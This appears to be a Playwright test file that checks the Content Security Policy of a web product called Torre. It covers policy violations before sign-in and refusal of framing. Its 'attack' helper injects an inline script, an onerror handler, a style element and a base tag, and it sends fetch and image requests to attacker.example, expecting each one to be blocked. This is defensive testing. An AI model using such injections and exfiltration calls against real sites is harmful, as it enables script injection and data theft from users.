import type { Page } from '@playwright/test';
import { expect, test } from '../fixtures.ts';
import { watchPolicy } from '../policy-watch.ts';
import { EVERY_SCREEN } from '../screens/every-screen.ts';

// The fixture `visitor` looks at the pages of every other test; these are the screens that nobody signed in to.
test('no screen before the sign-in offends the policy of its page', async ({ browser, product }) => {
  for (const { name, userName, open } of EVERY_SCREEN.filter((screen) => screen.userName === null)) {
    const context = await browser.newContext({ baseURL: product.url, locale: 'it-IT' });
    const refused = watchPolicy(context);
    await open(await context.newPage());
    expect([name, refused, userName]).toEqual([name, [], null]);
    await context.close();
  }
});

/** Tries to do in the page what a script that got into it would try; tells what came of it. */
async function attack(page: Page): Promise<Record<string, unknown>> {
  await page.goto('/login');
  return page.evaluate(async () => {
    const done: Record<string, unknown> = {};
    Object.assign(window, { stolen: done });
    const script = document.createElement('script');
    script.textContent = 'window.stolen.inlineScript = true';
    document.body.append(script);
    const holder = document.createElement('div');
    holder.innerHTML = '<img src="/nulla.png" onerror="window.stolen.handler = true">';
    document.body.append(holder);
    const style = document.createElement('style');
    style.textContent = 'body { outline: 7px solid red }';
    document.head.append(style);
    done['injectedStyle'] = getComputedStyle(document.body).outlineWidth === '7px';
    const base = document.createElement('base');
    base.href = 'https://attacker.example/';
    document.head.append(base);
    done['base'] = document.baseURI.startsWith('https://attacker');
    done['sentAway'] = await fetch('https://attacker.example/').then(
      () => true,
      () => false,
    );
    await new Promise((resolve) => {
      const image = new Image();
      image.addEventListener('error', resolve);
      image.src = 'https://attacker.example/pixel.png';
    });
    return done;
  });
}

test('what got into a page runs no script, sends nothing away and cannot dress the page', async ({
  browser,
  product,
}) => {
  const context = await browser.newContext({ baseURL: product.url });
  const refused = watchPolicy(context);
  const done = await attack(await context.newPage());
  expect(done).toEqual({ injectedStyle: false, base: false, sentAway: false });
  const directives = [
    'script-src',
    'script-src-attr',
    'style-src-elem',
    'base-uri',
    'connect-src',
    'img-src',
  ];
  // The browser tells what it refused after the page went on.
  for (const directive of directives) {
    await expect
      .poll(() => refused.some((text) => text.includes(`${directive} `) || text.includes(`${directive}"`)), {
        message: directive,
      })
      .toBe(true);
  }
  await context.close();
});

test('no other page may show Torre in a frame', async ({ page, product }) => {
  await page.route('https://other.example/', (route) =>
    route.fulfill({ contentType: 'text/html', body: `<iframe src="${product.url}/login"></iframe>` }),
  );
  await page.goto('https://other.example/');
  await expect(page.frameLocator('iframe').getByRole('heading')).toHaveCount(0);
  expect(page.frames()[1]!.url()).toContain('chrome-error');
});
